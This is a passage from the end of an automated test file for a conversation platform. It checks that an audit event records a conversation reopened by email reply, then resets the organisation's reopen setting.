          await platform.query(`select actor_id, details from audit_event where action = 'conversation.reopened' and subject_id = $1`, [conversation.id]),
        ).toEqual([{ actor_id: alma.id, details: { by: 'email reply' } }]);
        await emailOf(posted.body.messageId, cora);
      } finally {
        await convenience.admin.patch('/v1/organization/settings', { allowContactsToReopen: false });
      }
    });
  });
});
